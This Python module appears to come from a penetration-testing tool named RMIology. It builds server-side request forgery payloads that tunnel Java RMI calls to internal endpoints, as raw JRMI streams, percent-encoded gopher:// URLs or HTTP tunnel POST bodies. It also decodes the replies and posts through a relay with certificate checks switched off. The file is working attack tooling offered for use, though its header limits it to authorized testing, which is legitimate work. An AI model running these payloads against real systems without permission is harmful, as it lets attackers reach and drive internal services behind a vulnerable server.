#!/usr/bin/env python3
# -*- coding: utf-8 -*-
#
# MIT License
#
# Copyright (c) 2026 Joris van de Vis
#
# Permission is hereby granted, free of charge, to any person obtaining a copy
# of this software and associated documentation files (the "Software"), to deal
# in the Software without restriction, including without limitation the rights
# to use, copy, modify, merge, publish, distribute, sublicense, and/or sell
# copies of the Software, and to permit persons to whom the Software is
# furnished to do so, subject to the following conditions:
#
# The above copyright notice and this permission notice shall be included in all
# copies or substantial portions of the Software.
#
# THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
# IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY,
# FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE
# AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER
# LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM,
# OUT OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN THE
# SOFTWARE.
#
"""
RMIology SSRF tunnel builder

Wraps an encoded call frame so that a byte-faithful relay forwards it to an
internal RMI endpoint:

  raw     JRMI header + StreamProtocol, client endpoint and the call, all in
          one write (the answer to the handshake is never awaited)
  gopher  the raw stream as a gopher:// URL, every byte percent-encoded
  http    JRMI header + SingleOpProtocol and the call, the body of an RMI
          HTTP tunnel POST

For authorized security testing only.
"""

import logging
import re
import struct
from enum import Enum

import requests
from requests.exceptions import RequestException

from RMIology_wire import (
    JRMI_MAGIC, JRMI_VERSION, PROTO_STREAM, PROTO_SINGLE_OP, PROTO_ACK,
    ConnectError, ValidationError, StreamReader, write_utf, decode_return,
)

logger = logging.getLogger(__name__)

requests.packages.urllib3.disable_warnings()


class SSRFStyle(Enum):
    RAW = "raw"
    GOPHER = "gopher"
    HTTP = "http"

    @classmethod
    def parse(cls, name):
        try:
            return cls((name or "").strip().lower())
        except ValueError:
            raise ValidationError("Unknown SSRF style '%s' (available: raw, gopher, http)" % name)


def stream_prefix(host):
    """Pipelined StreamProtocol handshake: header plus client endpoint (port 0)."""
    return JRMI_MAGIC + struct.pack("!HB", JRMI_VERSION, PROTO_STREAM) + write_utf(host) + struct.pack("!i", 0)


def wrap(call_bytes, style, host, port):
    """Outer framing for call_bytes; gopher returns the URL as bytes."""
    if style is SSRFStyle.RAW:
        return stream_prefix(host) + call_bytes
    if style is SSRFStyle.GOPHER:
        encoded = "".join("%%%02x" % b for b in stream_prefix(host) + call_bytes)
        return ("gopher://%s:%d/_%s" % (host, port, encoded)).encode("ascii")
    if style is SSRFStyle.HTTP:
        return JRMI_MAGIC + struct.pack("!HB", JRMI_VERSION, PROTO_SINGLE_OP) + call_bytes
    raise ValidationError("Unsupported SSRF style: %r" % (style,))


def render(data, style):
    """Operator facing text: the URL for gopher, hex otherwise."""
    if style is SSRFStyle.GOPHER:
        return data.decode("ascii")
    return data.hex()


def parse_response_hex(text):
    cleaned = re.sub(r"\s+", "", text or "")
    if cleaned.lower().startswith("0x"):
        cleaned = cleaned[2:]
    try:
        data = bytes.fromhex(cleaned)
    except ValueError:
        raise ValidationError("SSRF response is not valid hex")
    if not data:
        raise ValidationError("SSRF response is empty")
    return data


def decode_response(data, expect_value=True):
    """Decode a captured answer; a leading ProtocolAck (raw style) is skipped."""
    if data and data[0] == PROTO_ACK:
        reader = StreamReader(data, 1)
        reader.read_utf()
        reader.unpack("!i")
        data = data[reader.pos:]
    return decode_return(data, expect_value)


def deliver_http(url, body, timeout=5):
    """POST an http-style tunnel body through a relay and return the raw answer."""
    logger.debug("posting %d byte tunnel body to %s", len(body), url)
    try:
        r = requests.post(
            url,
            data=body,
            headers={"Content-Type": "application/octet-stream"},
            timeout=timeout,
            verify=False,
            allow_redirects=False,
        )
    except RequestException as e:
        raise ConnectError("relay %s failed: %s" % (url, e)) from e
    logger.debug("relay answered HTTP %d with %d bytes", r.status_code, len(r.content))
    return r.content
